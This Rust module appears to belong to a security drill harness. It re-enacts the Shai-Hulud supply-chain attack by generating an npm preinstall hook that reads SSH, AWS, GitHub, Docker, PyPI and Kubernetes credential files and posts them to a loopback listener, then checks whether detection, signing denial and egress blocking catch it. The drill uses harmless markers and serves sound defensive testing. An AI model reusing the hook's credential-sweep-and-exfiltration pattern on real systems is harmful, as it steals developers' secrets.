//! Shai-Hulud, 2025: packages whose install hook swept the home folder for credentials and sent them away. Whoever
//! installed a new version that day had run it before anybody knew.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use crate::sandbox::{DrillError, Sandbox, Watched};
use crate::{Control, Drill, Score, Step};

const RECORDER: &str = "recorder";
const ALARM: &str = "live-alarm";
const READ: &str = "credential-read";
const SWEEP: &str = "credential-sweep";
const SENT: &str = "credential-exfiltration";
const EGRESS: &str = "egress";

pub(crate) const DRILL: Drill = Drill {
    name: "shai-hulud",
    attack: "a new version of a dependency reads credentials in its install hook and posts them (Shai-Hulud, 2025)",
    controls: &[
        Control { name: RECORDER, what: "only recorded builds are signed" },
        Control { name: ALARM, what: "the alarm is raised while the build still runs" },
        Control { name: READ, what: "an install hook has no business with credentials" },
        Control { name: SWEEP, what: "still less with many kinds of them" },
        Control { name: SENT, what: "whoever has read them and connects sends them away" },
        Control { name: EGRESS, what: "a build without network keeps them" },
    ],
    run,
};

const OUTPUT: &str = "dist/app.tar";
const ENDED: &str = "drill-build-ended";
/// Harmless markers in the place of credentials.
const CREDENTIALS: &[&str] = &[
    ".aws/credentials",
    ".ssh/id_ed25519",
    ".config/gh/hosts.yml",
    ".docker/config.json",
    ".pypirc",
    ".kube/config",
];
const MARKER: &str = "harmless-marker-of-a-drill";

fn codes(control: &str) -> &'static [&'static str] {
    match control {
        READ => &["credential-read"],
        SWEEP => &["credential-sweep"],
        SENT => &["credential-exfiltration"],
        _ => &[],
    }
}

fn run(program: &Path, without: Option<&str>) -> Result<Score, DrillError> {
    let sandbox = Sandbox::new(program)?;
    sandbox.needs(&["npm", "node", "tar"])?;
    sandbox.must(&["init"])?;
    sandbox.allow(without.map_or(&[], codes))?;
    let door = Door::open()?;
    project(&sandbox, door.port)?;
    let quiet = without == Some(ALARM);

    let began = Instant::now();
    if without == Some(RECORDER) {
        sandbox.shell("HOME=$PWD/home sh build.sh 1.0.0")?;
    } else {
        build(&sandbox, "1.0.0", quiet, "audit")?;
    }
    let clean = sandbox.ask(&["sign", OUTPUT])?;
    let mut steps = vec![Step::new(
        RECORDER,
        "the clean release 1 is signed",
        clean.verdict() == "signed",
        clean.all(),
        began,
    )];

    let began = Instant::now();
    let watched = build(&sandbox, "1.0.1", quiet, "audit")?;
    if door.taken() == 0 {
        return Err(std::io::Error::other("the attack did not take place: nothing was sent").into());
    }
    let alarms = watched.before(ENDED, "DETECTED");
    steps.push(Step::new(ALARM, "the hook is told while the build runs", !alarms.is_empty(), alarms, began));
    let denied = sandbox.ask(&["sign", OUTPUT])?;
    for (control, expected) in [
        (READ, "the release with the hook is denied: credentials were read"),
        (SWEEP, "… of many kinds"),
        (SENT, "… and sent away"),
    ] {
        let evidence = denied.evidence(codes(control), "", "setup.js");
        let caught = denied.verdict() == "denied" && denied.code == Some(1) && !evidence.is_empty();
        steps.push(Step::new(control, expected, caught, evidence, began));
    }

    let began = Instant::now();
    let before = door.taken();
    build(&sandbox, "1.0.1", true, if without == Some(EGRESS) { "audit" } else { "deny" })?;
    let kept = door.taken() == before;
    let evidence = vec![if kept { "nothing arrived".to_owned() } else { "they arrived".to_owned() }];
    steps.push(Step::new(EGRESS, "with `--egress deny` nothing leaves", kept, evidence, began));
    Ok(Score { drill: DRILL.name, without: without.map(str::to_owned), steps })
}

/// A project with one dependency, clean in 1.0.0 and with a hook in 1.0.1, and a home folder with markers.
fn project(sandbox: &Sandbox, port: u16) -> Result<(), DrillError> {
    for name in CREDENTIALS {
        sandbox.write(&format!("home/{name}"), MARKER.as_bytes())?;
    }
    sandbox.write("package.json", b"{\"name\":\"app\",\"version\":\"1.0.0\",\"private\":true}\n")?;
    let hook = format!(
        "const fs = require('fs'), http = require('http'), os = require('os');\n\
         const found = {CREDENTIALS:?}.map(name => fs.readFileSync(os.homedir() + '/' + name, 'utf8'));\n\
         const request = http.request({{host: '127.0.0.1', port: {port}, method: 'POST'}}, answer => answer.resume());\n\
         request.on('error', () => {{}}); request.end(found.join('\\n'));\n"
    );
    for (version, scripts) in [("1.0.0", ""), ("1.0.1", ",\"scripts\":{\"preinstall\":\"node setup.js\"}")] {
        let package =
            format!("{{\"name\":\"helper\",\"version\":\"{version}\",\"main\":\"index.js\"{scripts}}}\n");
        sandbox.write(&format!("vendor/{version}/package/package.json"), package.as_bytes())?;
        sandbox.write(&format!("vendor/{version}/package/index.js"), b"module.exports = 1;\n")?;
        sandbox.write(&format!("vendor/{version}/package/setup.js"), hook.as_bytes())?;
        let tar = "tar --sort=name --mtime=@0 --owner=0 --group=0 --numeric-owner";
        sandbox.shell(&format!("{tar} -czf vendor/helper-{version}.tgz -C vendor/{version} package"))?;
    }
    let script = format!(
        "set -e\nrm -rf node_modules dist\nmkdir dist\n\
         npm install --offline --no-audit --no-fund --no-save --no-package-lock --silent ./vendor/helper-$1.tgz\n\
         tar --sort=name --mtime=@0 --owner=0 --group=0 --numeric-owner -cf {OUTPUT} package.json node_modules/helper/index.js\n\
         echo {ENDED} >&2\n"
    );
    sandbox.write("build.sh", script.as_bytes())
}

fn build(sandbox: &Sandbox, version: &str, quiet: bool, egress: &str) -> Result<Watched, DrillError> {
    let mut run =
        vec!["run", "--product", "app", "--release", version, "--output", "dist/*", "--egress", egress];
    if quiet {
        run.push("--quiet");
    }
    run.extend(["--", "sh", "build.sh", version]);
    sandbox.watch(&run)
}

/// The attackers' door, on loopback: counts what arrives.
struct Door {
    port: u16,
    taken: Arc<AtomicUsize>,
    closed: Arc<AtomicBool>,
}

impl Door {
    fn open() -> Result<Self, DrillError> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        listener.set_nonblocking(true)?;
        let port = listener.local_addr()?.port();
        let (taken, closed) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicBool::new(false)));
        std::thread::spawn({
            let (taken, closed) = (Arc::clone(&taken), Arc::clone(&closed));
            move || {
                while !closed.load(Ordering::Relaxed) {
                    match listener.accept() {
                        Ok((stream, _)) => drop(take(stream, &taken)),
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            }
        });
        Ok(Self { port, taken, closed })
    }

    fn taken(&self) -> usize {
        self.taken.load(Ordering::Relaxed)
    }
}

impl Drop for Door {
    fn drop(&mut self) {
        self.closed.store(true, Ordering::Relaxed);
    }
}

fn take(mut stream: std::net::TcpStream, taken: &AtomicUsize) -> std::io::Result<()> {
    stream.set_nonblocking(false)?;
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    let (mut text, mut piece) = (Vec::new(), [0; 4096]);
    while !text.windows(MARKER.len()).any(|window| window == MARKER.as_bytes()) {
        match stream.read(&mut piece)? {
            0 => return Ok(()),
            length => text.extend_from_slice(&piece[..length]),
        }
    }
    taken.fetch_add(1, Ordering::Relaxed);
    stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
}
